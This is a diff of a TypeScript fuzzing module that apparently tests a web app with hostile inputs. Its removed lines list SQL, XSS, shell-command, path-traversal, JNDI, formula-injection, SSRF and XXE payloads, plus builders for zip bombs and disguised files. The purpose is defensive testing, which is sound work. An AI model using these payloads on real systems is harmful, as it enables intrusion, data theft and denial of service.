@@ -1,432 +1,141 @@
+import { readFileSync } from "node:fs";
 import { deflateRawSync } from "node:zlib";
-import type { Part, SentFile } from "./forms.ts";
+import type { Part, SentFile } from "../driver/forms.ts";
 
 /**
- * What people and programs who mean harm send, as data: texts for every field, names and values for whole forms, files,
- * bodies and requests. `MARK` stands in whatever would run or be read as code, so that it is found where it comes back.
+ * The inputs of `hostile-inputs.json`, which people and programs who mean harm send: texts for every field, extra fields,
+ * files, bodies and requests. `MARK` is part of each input that a browser could run as code, so that it is found in answers.
  */
 export const MARK = "hx9q";
 
-const bytes = (...numbers: number[]) => Buffer.from(numbers);
-const around = (odd: Buffer | string) =>
-  Buffer.concat([Buffer.from(`${MARK} before `), Buffer.from(odd), Buffer.from(" after")]);
-const named = (name: string, values: readonly (string | Buffer)[]) =>
-  values.map((value, index): [string, string | Buffer] => [`${name} ${index + 1}`, value]);
+/** Bytes as the data file writes them: long and binary ones are given by how they are made. */
+type Content =
+  | string
+  | readonly Content[]
+  | { readonly hex: string }
+  | { readonly repeat: readonly [Content, number] }
+  /** Each `#` becomes a number that counts up from 0. */
+  | { readonly numbered: readonly [string, number] }
+  /** The first so many bytes. */
+  | { readonly first: readonly [number, Content] }
+  | { readonly zip: { readonly entry: string; readonly content: Content; readonly claimedSize?: number } };
 
-/** Texts, by what they are: each goes into every field of every form. */
-export const texts: readonly [name: string, text: string | Buffer][] = [
-  ...named("nothing", ["", " ", "\t", "\n", "\r\n\r\n", "\u00a0", "\u3000"]),
-  ...named("oversized", [
-    "A".repeat(20_001),
-    "\n".repeat(30_000),
-    "😀".repeat(20_000),
-    "é".repeat(150_000),
-    "A".repeat(257 * 1024),
-    "A ".repeat(100_000),
-  ]),
-  ...named("null byte", ["\0", `${MARK}\0.pdf`, `\0${MARK}`, "HU2-1\0", "5\0"]),
-  ...named(
-    "control character",
-    [1, 7, 8, 11, 12, 27, 31, 127, 133, 155].map((code) => `${MARK}${String.fromCodePoint(code)}x`),
-  ),
-  ...named("terminal escape", [`\x1b[31m${MARK}\x1b[0m`, `\x1b]0;${MARK}\x07`, `\x1b[2J${MARK}`]),
-  ...named(
-    "invalid UTF-8",
-    [
-      bytes(0xff),
-      bytes(0xc0, 0xaf),
-      bytes(0xed, 0xa0, 0x80),
-      bytes(0xf5, 0x80, 0x80, 0x80),
-      bytes(0xe2, 0x82),
-      bytes(0xc0, 0x80),
-      bytes(0xfe, 0xff, 0, 0x41),
-    ].map(around),
-  ),
-  ...named("another encoding", [
-    Buffer.from(`<${MARK}>`, "utf16le"),
-    Buffer.from(`+ADw-${MARK}+AD4-`),
-    bytes(0xef, 0xbb, 0xbf, 0x41),
-  ]),
-  ...named(
-    "bidirectional",
-    ["\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u061c", "\u202agnp.exe\u202c"].map(
-      (odd) => `${MARK}${odd}txt.exe`,
-    ),
-  ),
-  ...named(
-    "zero width",
-    ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f"].map((odd) => `H${odd}U2-1${odd}`),
-  ),
-  ...named("odd Unicode", [
-    "\ufffe",
-    "\uffff",
-    "\u{e0041}\u{e0042}",
-    "\u{10ffff}",
-    "Ａ＜script＞",
-    "ﷺ".repeat(500),
-    "e\u0301".repeat(2000),
-    `a${"\u0300".repeat(5000)}`,
-    "ǆ ﬃ ß İ ı",
-    "\u2028\u2029",
-    "‮‭‬",
-  ]),
-  ...named("SQL", [
-    `' or 1=1 --`,
-    `'; drop table trail; --`,
-    `" or ""="`,
-    `1; update trail set at = 0`,
-    `') union select hash from passwords --`,
-    `1 or 1=1`,
-    `%' or '%'='`,
-    `\\'; --`,
-    `" ) ; delete from updates; --`,
-    `x' and randomblob(1000000000) --`,
-    `' || load_extension('x') || '`,
-    `* from evidence`,
-    `NEAR("a" "b")`,
-    `"unclosed`,
-  ]),
-  ...named("HTML", [
-    `<${MARK}>`,
-    `<script>${MARK}()</script>`,
-    `</script><script>${MARK}()</script>`,
-    `<img src=x onerror=${MARK}()>`,
-    `"><img src=x onerror=${MARK}()>`,
-    `'><svg onload=${MARK}()>`,
-    `" onfocus="${MARK}()" autofocus="`,
-    `' onmouseover='${MARK}()`,
-    `</textarea><script>${MARK}()</script>`,
-    `</title><script>${MARK}()</script>`,
-    `<iframe srcdoc="<script>${MARK}()</script>">`,
-    `<a href="javascript:${MARK}()">x</a>`,
-    `<math><mi//xlink:href="data:x,<script>${MARK}()</script>">`,
-    `<!--><script>${MARK}()</script>-->`,
-    `<![CDATA[<script>${MARK}()</script>]]>`,
-    `<svg><style><img src=x onerror=${MARK}()></style></svg>`,
-    `<base href="//${MARK}.example/">`,
-    `<meta http-equiv=refresh content="0;url=//${MARK}.example">`,
-    `<form action="//${MARK}.example"><input name=x>`,
-    `<link rel=stylesheet href="//${MARK}.example">`,
-    `&lt;script&gt;${MARK}()&lt;/script&gt;`,
-    `&#60;script&#62;${MARK}()`,
-    `<scr<script>ipt>${MARK}()</scr</script>ipt>`,
-    `<SCRIPT/${MARK}/SRC=//x>`,
-    `<noscript><p title="</noscript><img src=x onerror=${MARK}()>">`,
-    `<template><${MARK}></template>`,
-    `\u003cscript\u003e${MARK}()`,
-    `%3Cscript%3E${MARK}()`,
-  ]),
-  ...named("script address", [
-    `javascript:${MARK}()`,
-    ` javascript:${MARK}()`,
-    `JaVaScRiPt:${MARK}()`,
-    `java\nscript:${MARK}()`,
-    `data:text/html,<script>${MARK}()</script>`,
-    `vbscript:${MARK}`,
-    `//${MARK}.example`,
-    `\\\\${MARK}.example`,
-    `https://user:pass@${MARK}.example`,
-    `https:\\\\${MARK}.example`,
-    `file:///etc/passwd`,
-    `http://169.254.169.254/`,
-  ]),
-  ...named("flight data", [
-    `"])</script><script>${MARK}()</script>`,
-    `\\"]);${MARK}();//`,
-    `1:"$Sreact.suspense"`,
-    `$ACTION_ID_${MARK}`,
-    `["$","script",null,{"children":"${MARK}()"}]`,
-    `$F1`,
-    `$K1`,
-    `$undefined`,
-    `$@1`,
-    `$Q1`,
-  ]),
-  ...named("template", [
-    `{{7*7}}${MARK}`,
-    `\${7*7}${MARK}`,
-    `<%= 7*7 %>${MARK}`,
-    `#{7*7}${MARK}`,
-    `{%debug%}`,
-    `{{constructor.constructor('${MARK}()')()}}`,
-    `\${jndi:ldap://${MARK}.example/a}`,
-    `@(1+1)`,
-    `*{7*7}`,
-  ]),
-  ...named(
-    "formula",
-    ["=", "+", "-", "@", "\t=", "\r=", "＝", "|", "%"].map((sign) => `${sign}HYPERLINK("//${MARK}.example","x")`),
-  ),
-  ...named("formula", [
-    `=cmd|' /C calc'!A0`,
-    `@SUM(1+1)*cmd|' /C calc'!A0`,
-    `=IMPORTXML("//${MARK}.example","//a")`,
-    `;=1+1`,
-    `",=1+1`,
-  ]),
-  ...named("path", [
-    `../../etc/passwd`,
-    `..\\..\\windows\\win.ini`,
-    `/etc/passwd`,
-    `C:\\boot.ini`,
-    `....//....//etc/passwd`,
-    `%2e%2e%2f`,
-    `..%c0%af..`,
-    `file:///etc/passwd`,
-    `\\\\server\\share`,
-    `~root`,
-    `/proc/self/environ`,
-  ]),
-  ...named("reserved name", [
-    "CON",
-    "NUL.txt",
-    "aux",
-    "COM1",
-    "LPT9.csv",
-    ".htaccess",
-    "~$x.docx",
-    "desktop.ini",
-    "a:b",
-    "x. ",
-    "…",
-  ]),
-  ...named("shell", [
-    `; cat /etc/passwd`,
-    `| id`,
-    `\`id\``,
-    `$(id)`,
-    `& calc`,
-    `\n/bin/sh`,
-    `--version`,
-    `-o ProxyCommand=x`,
-  ]),
-  ...named("header", [
-    `x\r\nset-cookie: ${MARK}=1`,
-    `x\nx-${MARK}: 1`,
-    `\r\n\r\n<${MARK}>`,
-    `x%0d%0aset-cookie:%20${MARK}=1`,
-    `x\u010d\u010ax-${MARK}: 1`,
-    `Bcc: ${MARK}@example.org\r\nx`,
-  ]),
-  ...named("number", [
-    "NaN",
-    "Infinity",
-    "-Infinity",
-    "-1",
-    "0",
-    "-0",
-    "1e309",
-    "1e-400",
-    "9007199254740993",
-    "99999999999999999999",
-    "2147483648",
-    "-9223372036854775809",
-    "1.5",
-    "0x10",
-    "0b1",
-    "1_000",
-    "１２",
-    "1,000",
-    " 5 ",
-    "05",
-    "5;",
-    "null",
-    "undefined",
-    "true",
-    "[object Object]",
-    "5e0",
-    "٣",
-  ]),
-  ...named("day", [
-    "2026-02-30",
-    "2026-13-01",
-    "0000-00-00",
-    "9999-12-31",
-    "10000-01-01",
-    "-000001-01-01",
-    "2026-2-3",
-    "31/12/2026",
-    "2026-12-31T00:00:00Z",
-    "2026-12-31 ",
-    "1582-10-10",
-    "2025-03-30",
-    "275760-09-14",
-    "2026-W10-1",
-    "tomorrow",
-    "2026-12-3１",
-    "1969-12-31",
-    "2100-12-31",
-  ]),
-  ...named("prototype", [
-    "__proto__",
-    "constructor",
-    "prototype",
-    "toString",
-    "hasOwnProperty",
-    "valueOf",
-    `{"__proto__":{"role":"business"}}`,
-    "then",
-    "toJSON",
-    "$$id",
-  ]),
-  ...named("JSON and XML", [
-    `{"a":`,
-    `[[[[`,
-    `{"$ne":null}`,
-    `{"$gt":""}`,
-    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
-    `&a;&a;`,
-    `"`.repeat(5000),
-    `[`.repeat(50_000),
-    `{"a":`.repeat(10_000),
-  ]),
-  ...named("slow pattern", [
-    `${"a".repeat(19_000)}!`,
-    "1 ".repeat(9000),
-    "born ".repeat(4000),
-    "Baby ".repeat(4000),
-    "((((".repeat(4000),
-    "A-".repeat(9000),
-    "the mother, ".repeat(1500),
-    "999 339 563 ".repeat(1500),
-    "@".repeat(19_000),
-    "Aa1!".repeat(4900),
-  ]),
-  ...named("refused", [
-    "refused:not saved",
-    "refused:too large",
-    "refused:",
-    "00000000-0000-0000-0000-000000000000",
-    "../../../../tracker.db",
-  ]),
-];
-
-/** Fields that no form here has, or has once: they go beside the form's own. */
-export const additions: readonly [name: string, parts: (own: readonly Part[]) => readonly Part[]][] = [
-  ["every field twice", (own) => [...own, ...own]],
-  ["every field empty before", (own) => [...own.slice(1).map(([name]): Part => [name, ""]), ...own]],
-  ["no field at all", (own) => own.slice(0, 1)],
-  [
-    "two thousand fields",
-    (own) => [...own, ...Array.from({ length: 2000 }, (_, index): Part => [`field${index}`, "x"])],
-  ],
-  ["fifty thousand fields", (own) => [...own, ...Array.from({ length: 50_000 }, (): Part => ["a", ""])]],
-  [
-    "two hundred and ninety of one name",
-    (own) => [...own, ...Array.from({ length: 270 }, (): Part => ["reason", MARK])],
-  ],
-  [
-    "a hundred files",
-    (own) => [
-      ...own,
-      ...Array.from({ length: 100 }, (_, index): Part => [`evidence.${index}.file`, file("a.csv", "a,b\n")]),
-    ],
-  ],
-  ["a name of a megabyte", (own) => [...own, ["a".repeat(1024 * 1024), "x"]]],
-  ["a value of two megabytes", (own) => [...own, ["reason", "x".repeat(2 * 1024 * 1024)]]],
-  [
-    "rows without end",
-    (own) => [
-      ...own,
-      ["evidence.99.title", "x"],
-      ["evidence.999999999.title", "x"],
-      ["evidence.-1.title", "x"],
-      ["evidence.1e9.title", "x"],
-      ["evidence.19.title", "x"],
-    ],
-  ],
-  [
-    "rows of what has none",
-    (own) => [
-      ...own,
-      ["reason.0.title", "x"],
-      ["reference.0.reference", "HU2-1"],
-      ["formKey.0.x", "x"],
-      ["seen.0.x", "1"],
-    ],
-  ],
-  [
-    "rows in rows",
-    (own) => [
-      ...own,
-      ["evidence.0.file.0.file", "x"],
-      ["evidence[0][title]", "x"],
-      ["evidence.0", "x"],
-      ["evidence", "x"],
-    ],
-  ],
-  [
-    "prototypes as fields",
-    (own) => [
-      ...own,
-      ["__proto__", "x"],
-      ["constructor", "x"],
-      ["__proto__.0.role", "business"],
-      ["constructor.0.prototype", "x"],
-      ["evidence.0.__proto__", "x"],
-      ["toString", "x"],
-      ["hasOwnProperty", "x"],
-      ["then", "x"],
-    ],
-  ],
-  [
-    "names with everything",
-    (own) => [
-      ...own,
-      [`<${MARK}>`, "x"],
-      ["\0", "x"],
-      [bytes(0xff, 0xfe), "x"],
-      ["a\r\nb", "x"],
-      ["", "x"],
-      [`" onfocus="${MARK}()`, "x"],
-    ],
-  ],
-  [
-    "React's own fields",
-    (own) => [
-      ...own,
-      ["$ACTION_REF_1", ""],
-      ["$ACTION_1:0", `{"id":"${MARK}","bound":"$@1"}`],
-      ["$ACTION_1:1", "[]"],
-      ["$ACTION_KEY", "k1"],
-      ["1_reference", "HU2-1"],
-      ["0", '["$K1"]'],
-      ["_1_reference", "HU2-1"],
-    ],
-  ],
-  ["two actions", (own) => [...own, [`$ACTION_ID_${"0".repeat(42)}`, ""]]],
-  ["an action that is not there", (own) => [[`$ACTION_ID_${"f".repeat(42)}`, ""], ...own.slice(1)]],
-  ["an action with a path for its id", (own) => [["$ACTION_ID_../../../etc/passwd", ""], ...own.slice(1)]],
-  ["an action by a prototype's name", (own) => [["$ACTION_ID___proto__", ""], ...own.slice(1)]],
-  [
-    "all at once",
-    (own) => [
-      ...own,
-      ["discard", "yes"],
-      ["postAnyway", "on"],
-      ["everywhere", "on"],
-      ["role", "business"],
-      ["personId", "1"],
-      ["held", "0"],
-      ["trail", "1"],
-      ["at", "0"],
-      ["sample", "on"],
-    ],
-  ],
-];
-
-function file(fileName: string | Buffer, content: string | Buffer, type = "application/octet-stream"): SentFile {
-  return { fileName, type, bytes: Buffer.from(content) };
+interface FileData {
+  readonly fileName: Content;
+  readonly content: Content;
+  readonly type?: string;
 }
 
-/** A zip archive of one entry that says it unpacks to so many bytes; it is whole, by its directory. */
-function zip(name: string, content: Buffer, claimed = content.length): Buffer {
+type PartData =
+  | readonly [name: Content, value: Content]
+  | { readonly numbered: readonly [name: string, value: string | FileData, count: number] };
+
+interface AdditionData {
+  readonly name: string;
+  /** Which of the form's own parts are sent; all of them unless given. */
+  readonly own?: "twice" | "emptied first" | "action" | "fields";
+  readonly first?: readonly [Content, Content];
+  readonly parts: readonly PartData[];
+}
+
+interface Inputs {
+  readonly texts: Readonly<Record<string, readonly Content[]>>;
+  readonly additions: readonly AdditionData[];
+  readonly fileNames: readonly Content[];
+  readonly files: readonly (FileData & { readonly name: string })[];
+  readonly bodies: readonly { readonly name: string; readonly type: string; readonly body: Content }[];
+  readonly inAddresses: readonly Content[];
+  readonly headers: readonly { readonly name: string; readonly headers: Readonly<Record<string, Content>> }[];
+  readonly methods: readonly string[];
+}
+
+const data: Inputs = JSON.parse(readFileSync(new URL("hostile-inputs.json", import.meta.url), "utf8"));
+
+/** Each goes into every field of every form. */
+export const texts = Object.entries(data.texts).flatMap(([group, values]) =>
+  values.map((value, index): [name: string, text: Buffer] => [`${group} ${index + 1}`, bytesOf(value)]),
+);
+
+/** Fields that no form has, or has only once: what is sent instead of a form's own parts. */
+export const additions = data.additions.map(({ name, own, first, parts }) => ({
+  name,
+  partsFrom: (form: readonly Part[]): Part[] => [
+    ...(first ? [[bytesOf(first[0]), bytesOf(first[1])] as const] : []),
+    ...ownParts(form, own),
+    ...parts.flatMap(partsOfData),
+  ],
+}));
+
+/** Files that are not what their names say, or contain more than they seem to, and names that no file should have. */
+export const files: readonly (readonly [name: string, file: SentFile])[] = [
+  ...data.fileNames.map((fileName) => {
+    const file = fileOf({ fileName, content: "a,b\n1,2\n" });
+    return [`a table called ${JSON.stringify(file.fileName.toString()).slice(0, 40)}`, file] as const;
+  }),
+  ...data.files.map((file) => [file.name, fileOf(file)] as const),
+];
+
+/** Bodies that are no forms, with the content type they claim. */
+export const bodies = data.bodies.map(({ name, type, body }) => ({ name, type, body: bytesOf(body) }));
+
+/** What replaces a word, a number or a query value of an address, percent-encoded as it is sent. */
+export const inAddresses = data.inAddresses.map((one) => bytesOf(one).toString());
+
+/** Headers that are too many, too long or broken. */
+export const headers = data.headers.map(({ name, headers: all }): [name: string, Record<string, string>] => [
+  name,
+  Object.fromEntries(Object.entries(all).map(([header, value]) => [header, bytesOf(value).toString()])),
+]);
+
+export const methods = data.methods;
+
+export const inputCount = [texts, additions, files, bodies, inAddresses, headers, methods].reduce(
+  (sum, { length }) => sum + length,
+  0,
+);
+
+function ownParts(form: readonly Part[], own: AdditionData["own"]): readonly Part[] {
+  if (own === "action") return form.slice(0, 1);
+  if (own === "fields") return form.slice(1);
+  if (own === "twice") return [...form, ...form];
+  return own === "emptied first" ? [...form.slice(1).map(([name]): Part => [name, ""]), ...form] : form;
+}
+
+function partsOfData(part: PartData): Part[] {
+  if (!("numbered" in part)) return [[bytesOf(part[0]), bytesOf(part[1])]];
+  const [name, value, count] = part.numbered;
+  const sent = typeof value === "string" ? value : fileOf(value);
+  return Array.from({ length: count }, (_, index): Part => [name.replace("#", String(index)), sent]);
+}
+
+function fileOf({ fileName, content, type = "application/octet-stream" }: FileData): SentFile {
+  return { fileName: bytesOf(fileName), type, bytes: bytesOf(content) };
+}
+
+function bytesOf(content: Content): Buffer {
+  if (typeof content === "string") return Buffer.from(content);
+  if ("hex" in content) return Buffer.from(content.hex, "hex");
+  if ("numbered" in content) {
+    const [text, count] = content.numbered;
+    return Buffer.from(Array.from({ length: count }, (_, index) => text.replace("#", String(index))).join(""));
+  }
+  if ("repeat" in content) {
+    const unit = bytesOf(content.repeat[0]);
+    return Buffer.alloc(unit.length * content.repeat[1], unit);
+  }
+  if ("first" in content) return bytesOf(content.first[1]).subarray(0, content.first[0]);
+  if ("zip" in content) return zipOf(content.zip.entry, bytesOf(content.zip.content), content.zip.claimedSize);
+  return Buffer.concat(content.map(bytesOf));
+}
+
+/** A complete zip archive of one entry, which may claim to unpack to another size than it does. */
+function zipOf(name: string, content: Buffer, claimedSize = content.length): Buffer {
   const packed = deflateRawSync(content);
-  const fields = Buffer.alloc(22);
-  fields.writeUInt16LE(8, 4);
-  fields.writeUInt32LE(packed.length, 14);
-  fields.writeUInt32LE(claimed >>> 0, 18);
-  const common = Buffer.concat([bytes(20, 0, 0, 0), fields.subarray(4, 22), bytes(name.length, 0, 0, 0)]);
+  const fields = Buffer.alloc(18);
+  fields.writeUInt16LE(8, 0);
+  fields.writeUInt32LE(packed.length, 10);
+  fields.writeUInt32LE(claimedSize >>> 0, 14);
+  const common = Buffer.concat([Buffer.from([20, 0, 0, 0]), fields, Buffer.from([name.length, 0, 0, 0])]);
   const local = Buffer.concat([Buffer.from("PK\x03\x04"), common, Buffer.from(name), packed]);
   const central = Buffer.concat([Buffer.from("PK\x01\x02\x14\0"), common, Buffer.alloc(14), Buffer.from(name)]);
   const end = Buffer.alloc(22);
@@ -437,195 +146,3 @@ function zip(name: string, content: Buffer, claimed = content.length): Buffer {
   end.writeUInt32LE(local.length, 16);
   return Buffer.concat([local, central, end]);
 }
-
-const script = `<script>${MARK}()</script>`;
-const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}()">${script}</svg>`;
-const pdf = `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${MARK}())>>>>endobj\n%%EOF\n`;
-const png = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
-const nought = Buffer.alloc(8 * 1024 * 1024);
-const names = [
-  "../../../tracker.db",
-  "..\\..\\x.csv",
-  "/etc/cron.d/x.csv",
-  "C:\\x.csv",
-  "CON.csv",
-  "NUL.csv",
-  "x.csv\0.exe",
-  "\u202evsc.exe",
-  ".csv",
-  "..",
-  `${"a".repeat(5000)}.csv`,
-  `<${MARK}>.csv`,
-  `" onload="${MARK}().csv`,
-  "x.csv\r\nset-cookie: a=b",
-  "x.csv::$DATA",
-  "=cmd.csv",
-  "x .csv ",
-  "é\u0301.csv",
-  "x.php.csv",
-  "x.csv;.html",
-  "%2e%2e%2fx.csv",
-  "__proto__.csv",
-  "\u200b.csv",
-];
-
-/** Files that are not what they are called, or are more than they seem, and names that no file should have. */
-export const files: readonly [name: string, file: SentFile][] = [
-  ...names.map((name): [string, SentFile] => [
-    `a table called ${JSON.stringify(name).slice(0, 40)}`,
-    file(name, "a,b\n1,2\n"),
-  ]),
-  ["a name that is no UTF-8", file(Buffer.concat([bytes(0xff, 0xfe, 0xc0), Buffer.from(".csv")]), "a,b\n")],
-  ["a page as a table", file("x.csv", `<!doctype html>${script}`)],
-  ["a page as a PDF", file("x.pdf", `<!doctype html>${script}`)],
-  ["a page", file("x.html", script)],
-  ["SVG with a script", file("x.svg", svg, "image/svg+xml")],
-  ["SVG as a PNG", file("x.png", svg)],
-  ["a PDF that is a page", file("x.pdf", `%PDF-1.4\n${script}\n%%EOF`)],
-  ["a PDF with a script", file("x.pdf", pdf)],
-  ["a PDF that is a zip", file("x.pdf", Buffer.concat([Buffer.from(pdf), zip("a", nought)]))],
-  ["a PNG that is a page", file("x.png", Buffer.concat([png, Buffer.from(script)]))],
-  ["a GIF that is a script", file("x.png", `GIF89a/*${script}*/=1;`)],
-  ["the beginning of a PNG", file("x.png", png)],
-  ["a program as a PDF", file("x.pdf", Buffer.concat([Buffer.from("MZ"), nought.subarray(0, 4096)]))],
-  ["a program of Unix as a text", file("x.txt", Buffer.from("\x7fELF\x02\x01\x01"))],
-  ["a shell script as a text", file("x.txt", "#!/bin/sh\nid\n")],
-  ["a zip bomb as a Word document", file("x.docx", zip("word/document.xml", nought, 0xf0000000))],
-  ["a zip bomb as a workbook", file("x.xlsx", zip("xl/workbook.xml", nought, 4_000_000_000))],
-  ["a zip with a path", file("x.docx", zip("../../etc/passwd", Buffer.from("x")))],
-  ["a zip in a zip", file("x.docx", zip("word/document.xml", zip("word/document.xml", nought)))],
-  ["a zip", file("x.zip", zip("a", Buffer.from("x")))],
-  ["half a zip", file("x.docx", zip("word/document.xml", nought).subarray(0, 60))],
-  ["the end of a zip", file("x.docx", "PK\x05\x06")],
-  [
-    "XML with entities as a table",
-    file("x.csv", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "${"x".repeat(1000)}">]><a>&b;</a>`),
-  ],
-  ["formulas", file("x.csv", `=HYPERLINK("//${MARK}.example")\n@SUM(1)\n`)],
-  ["null bytes", file("x.txt", Buffer.alloc(1000))],
-  ["nothing", file("x.csv", "")],
-  ["nothing with a name of nothing", file("", "a,b\n")],
-  ["an e-mail with headers", file("x.eml", `From: a@b\r\nBcc: ${MARK}\r\nContent-Type: text/html\r\n\r\n${script}`)],
-  ["an old Office file's beginning", file("x.msg", bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1))],
-  ["a line without end", file("x.csv", Buffer.alloc(6 * 1024 * 1024, "A"))],
-  ["more than is taken", file("x.csv", Buffer.alloc(26 * 1024 * 1024, "a,b\n"))],
-];
-
-/** Bodies that are no forms, under the content type that each gives itself. */
-export const bodies: readonly [name: string, type: string, body: string | Buffer][] = [
-  ["no boundary", "multipart/form-data", "x"],
-  ["an empty boundary", "multipart/form-data; boundary=", "--\r\n"],
-  ["a boundary of five hundred", `multipart/form-data; boundary=${"b".repeat(500)}`, `--${"b".repeat(500)}--`],
-  ["no body", "multipart/form-data; boundary=b", ""],
-  ["no end", "multipart/form-data; boundary=b", `--b\r\ncontent-disposition: form-data; name="a"\r\n\r\nx`],
-  ["no headers in a part", "multipart/form-data; boundary=b", "--b\r\n\r\nx\r\n--b--\r\n"],
-  [
-    "no name in a part",
-    "multipart/form-data; boundary=b",
-    "--b\r\ncontent-disposition: form-data\r\n\r\nx\r\n--b--\r\n",
-  ],
-  [
-    "a part's header without end",
-    "multipart/form-data; boundary=b",
-    `--b\r\ncontent-disposition: form-data; name="a"; x="${"y".repeat(100_000)}`,
-  ],
-  [
-    "thousands of headers in a part",
-    "multipart/form-data; boundary=b",
-    `--b\r\n${"x: y\r\n".repeat(5000)}\r\nx\r\n--b--\r\n`,
-  ],
-  [
-    "parts in a part",
-    "multipart/form-data; boundary=b",
-    `--b\r\ncontent-type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--c--\r\n--b--\r\n`,
-  ],
-  [
-    "an odd encoding",
-    "multipart/form-data; boundary=b; charset=utf-7",
-    `--b\r\ncontent-disposition: form-data; name="a"\r\ncontent-transfer-encoding: base64\r\n\r\nPA==\r\n--b--\r\n`,
-  ],
-  ["bytes", "multipart/form-data; boundary=b", Buffer.alloc(100_000, 0xff)],
-  ["JSON", "application/json", `{"__proto__":{"role":"business"}}`],
-  ["broken JSON", "application/json", `{"a":`],
-  ["deep JSON", "application/json", "[".repeat(100_000)],
-  [
-    "fields in the address's way",
-    "application/x-www-form-urlencoded",
-    `reference=HU2-1&reason=%00%ff&${"a=b&".repeat(5000)}`,
-  ],
-  ["text", "text/plain;charset=UTF-8", '["$K1"]'],
-  ["text that means server data", "text/x-component", '0:["$","script"]'],
-  ["XML", "text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`],
-  ["no type", "", "x"],
-  ["two types", "multipart/form-data; boundary=b, text/plain", "x"],
-  ["a type of another kind of multipart", "multipart/mixed; boundary=b", "--b--\r\n"],
-];
-
-/** What is put where an address has a word, a number or a query: percent-encoded, as it goes over the wire. */
-export const inAddresses: readonly string[] = [
-  "%00",
-  "%ff",
-  "%c0%af",
-  "..%2f..%2fetc%2fpasswd",
-  "%2e%2e",
-  "%5c..%5c",
-  "__proto__",
-  "constructor",
-  "NaN",
-  "-1",
-  "0",
-  "1e309",
-  "99999999999999999999",
-  "1.5",
-  "%20",
-  "%0d%0aset-cookie:%20a=b",
-  "%3Cscript%3Ehx9q()%3C/script%3E",
-  "%22%20onfocus=%22hx9q()",
-  "'%20or%201=1--",
-  "a".repeat(4000),
-  "%e2%80%ae",
-  "%F0%9F%98%80",
-  "2026-02-30",
-  "10000-01-01",
-  "javascript:hx9q()",
-  "%E0%A4%A",
-  "%",
-  "%25",
-  "*",
-  "%7B%7B7*7%7D%7D",
-  "HU2-1%00",
-];
-
-/** Headers that are too many, too long or broken. */
-export const headers: readonly [name: string, headers: Record<string, string | string[]>][] = [
-  ["a long cookie", { cookie: `tracker-session=${"A".repeat(12_000)}` }],
-  ["five hundred cookies", { cookie: Array.from({ length: 500 }, (_, index) => `c${index}=1`).join("; ") }],
-  ["a broken cookie", { cookie: 'tracker-session=%E0%A4%A; ;;=;=x; "' }],
-  ["an action that is not there", { "next-action": "f".repeat(42) }],
-  ["an action by a prototype's name", { "next-action": "__proto__" }],
-  ["a broken router state", { rsc: "1", "next-router-state-tree": "%5B%22%22%2C" }],
-  ["a deep router state", { rsc: "1", "next-router-state-tree": encodeURIComponent("[".repeat(1500)) }],
-  ["a prefetch of nothing", { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/../../x" }],
-  ["ranges", { range: `bytes=${"0-,".repeat(1000)}0-` }],
-  ["languages", { "accept-language": `${"en-GB-x,".repeat(500)}\u00ff` }],
-  ["encodings", { "accept-encoding": "gzip;q=NaN, br;q=-1, *;q=1e309" }],
-  ["a body that is said to be there", { "content-length": "0", "content-type": "multipart/form-data" }],
-  ["a page to go back to", { referer: `javascript:${MARK}()`, "x-forwarded-prefix": `/${MARK}` }],
-  ["a nonce of one's own", { "content-security-policy": "script-src 'nonce-AAAA' 'unsafe-inline'", "x-nonce": "AAAA" }],
-  [
-    "a time before time",
-    { "if-modified-since": "Thu, 01 Jan 1970 00:00:00 GMT", "if-none-match": `"${"x".repeat(4000)}"` },
-  ],
-];
-
-export const methods: readonly string[] = [
-  "PUT",
-  "PATCH",
-  "DELETE",
-  "OPTIONS",
-  "TRACE",
-  "PROPFIND",
-  "HEAD",
-  "POST",
-  "SEARCH",
-];
